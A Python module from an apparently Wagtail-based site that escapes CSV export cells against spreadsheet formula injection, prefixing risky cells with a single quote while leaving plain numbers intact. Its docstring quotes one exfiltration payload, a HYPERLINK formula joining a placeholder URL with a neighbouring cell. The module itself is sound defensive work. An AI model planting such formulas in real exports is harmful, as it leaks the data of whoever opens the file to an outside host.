"""CSV exports that a spreadsheet program opens as text, never as formulas.

Why: Excel and WPS run a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return) as a formula, so a notice titled
``=HYPERLINK("http://…"&A2,"点击查看")`` becomes a link that sends the neighbouring
cells away from whoever opens the site history. Wagtail turns such cells into text in
its XLSX exports but writes them into CSV as they are. As OWASP advises, such a cell is
prefixed with a single quote. A cell that is only a number (``-1250.00``) is left as it
is: it cannot hold a formula, and a negative amount stays a number one can add up.

Wagtail has no hook for its CSV writer, so each admin listing that exports is served by
a subclass with ``FormulaSafeCsvMixin``: a model viewset's own index view, or a subclass
in front of Wagtail's own URL (``core.spreadsheets``).

Kept apart from ``core.spreadsheets``, which imports Wagtail's admin URLs: a viewset built
while those URLs are being made can import this.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d,]*(?:\.\d+)?")


def escape_formula(value: Any) -> Any:
    """``value`` as a CSV cell that cannot start a formula; anything not text is kept."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin``: its CSV cells are escaped."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)  # type: ignore[misc]
        return escape_formula(value) if export_format == "csv" else value
